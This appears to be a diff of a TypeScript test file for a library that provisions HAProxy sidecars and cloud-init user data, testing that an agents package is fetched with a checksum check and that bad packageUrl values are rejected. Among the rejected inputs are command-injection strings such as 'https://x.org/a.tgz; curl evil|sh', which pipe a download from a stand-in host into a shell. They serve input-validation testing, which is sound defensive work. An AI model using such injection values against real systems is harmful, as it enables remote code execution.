@@ -7,7 +7,7 @@ import { parseNerveConfig } from '../lib/agent/nerve-config-loader';
 import { parseSynapseConfig } from '../lib/agent/synapse-config-loader';
 import { SynapseConfig } from '../lib/schema/synapse-config';
 import { buildArticleTopology } from '../examples/smartstack-topology';
-import { agentsPackage } from '../lib/cloud-init/agents-package';
+import { agentsPackage, agentsPackageFileName } from '../lib/cloud-init/agents-package';
 import { fileContent, writtenFiles } from './support/cloud-config-files';
 import { meshFixture, thrownMessage } from './support/sidecar-fixtures';
 
@@ -252,6 +252,50 @@ describe('HaproxySidecar options', () => {
     );
     expect(thrownMessage(() => AgentRuntime.node({ npmRegistry: 'https://npm.example.org', version: '1.0.0;curl evil|sh' }))).toContain('AgentRuntime.node: version = "1.0.0;curl evil|sh": expected');
     expect(thrownMessage(() => AgentRuntime.node({ npmRegistry: 'https://x.org/ --unsafe-perm' }))).toContain('AgentRuntime.node: npmRegistry = "https://x.org/ --unsafe-perm": expected');
+  });
+
+  test('a host booted from userData fetches the agents from packageUrl, checks the checksum before using it, and installs curl for it', () => {
+    const f = meshFixture();
+    const users = new SmartStackService(f.stack, 'user-service', { ensemble: f.zk, port: 8080, localPort: 3210 });
+    const app1 = new VdsNode(f.stack, 'app1', { privateAddress: '10.10.0.55', memoryMiB: 2048, deliverOverSsh: false });
+    const url = `https://files.example.org/smartstack/${agentsPackageFileName()}`;
+    new HaproxySidecar(app1, 'sidecar', { provides: [users], runtime: AgentRuntime.node({ packageUrl: url }) });
+    const { doc, text } = userData(app1);
+    expect(doc.packages).toEqual(['curl', 'nftables', 'nodejs']);
+    const steps = fileContent(text, '/usr/lib/smartstack/host-steps.sh');
+    const { sha256 } = agentsPackage();
+    expect(steps).toContain(`curl -fsSL --retry 5 --retry-connrefused --connect-timeout 10 --max-time 300 -o "$archive.partial" ${url}`);
+    // Checked before it is stored where the install step takes it from.
+    expect(steps.indexOf(`[ "$got" = ${sha256} ]`)).toBeLessThan(steps.indexOf('mv "$archive.partial" "$archive"'));
+    const local = new VdsNode(f.stack, 'app2', { privateAddress: '10.10.0.56', memoryMiB: 2048, deliverOverSsh: false });
+    new HaproxySidecar(local, 'sidecar', { provides: [users], runtime: AgentRuntime.node({ packageUrl: 'file:///opt/smartstack/agents.tgz' }) });
+    expect(fileContent(local.renderUserData(), '/usr/lib/smartstack/host-steps.sh')).toContain('cp -- /opt/smartstack/agents.tgz "$archive.partial"');
+    expect(userData(local).doc.packages).toEqual(['nftables', 'nodejs']);
+  });
+
+  test('a host delivered over SSH gets the upload, whatever packageUrl says; bad packageUrl values are refused', () => {
+    const f = meshFixture();
+    const users = new SmartStackService(f.stack, 'user-service', { ensemble: f.zk, port: 8080, localPort: 3210 });
+    const app1 = f.host('app1', 55);
+    new HaproxySidecar(app1, 'sidecar', { provides: [users], runtime: AgentRuntime.node({ packageUrl: 'https://files.example.org/agents.tgz' }) });
+    expect(fileContent(app1.renderUserData(), '/usr/lib/smartstack/host-steps.sh')).not.toContain('files.example.org');
+    for (const bad of ['ftp://files.example.org/a.tgz', 'https://x.org/a.tgz; curl evil|sh', 'file://relative/a.tgz', 'https://x.org/']) {
+      expect(thrownMessage(() => AgentRuntime.node({ packageUrl: bad }))).toContain(`AgentRuntime.node: packageUrl = ${JSON.stringify(bad)}: expected an http://, https:// or file:/// URL of a file`);
+    }
+    expect(thrownMessage(() => AgentRuntime.node({ packageUrl: 'https://x.org/a.tgz', npmRegistry: 'https://npm.example.org' }))).toBe(
+      'AgentRuntime.node: packageUrl = "https://x.org/a.tgz": the agents come either from npmRegistry or from packageUrl: set one',
+    );
+  });
+
+  test('a sidecar on a host booted from userData with nothing to bring it the agents is refused, saying what to set', () => {
+    const f = meshFixture();
+    const users = new SmartStackService(f.stack, 'user-service', { ensemble: f.zk, port: 8080, localPort: 3210 });
+    const app1 = new VdsNode(f.stack, 'app1', { privateAddress: '10.10.0.55', memoryMiB: 2048, deliverOverSsh: false });
+    expect(thrownMessage(() => new HaproxySidecar(app1, 'sidecar', { provides: [users] }))).toBe(
+      `HaproxySidecar 'test/app1/sidecar': runtime.packageUrl = "none": host app1 is not delivered over SSH, so nothing uploads the agents' package to it: ` +
+        `set AgentRuntime.node({ packageUrl: 'https://.../${agentsPackageFileName()}' }) (or a file:/// path your image places) for the host to fetch at its first boot, ` +
+        'or AgentRuntime.node({ npmRegistry }), or deliver the host over SSH',
+    );
   });
 
   test("a consumer host stops and disables Debian's own haproxy.service before starting the sidecar's", () => {
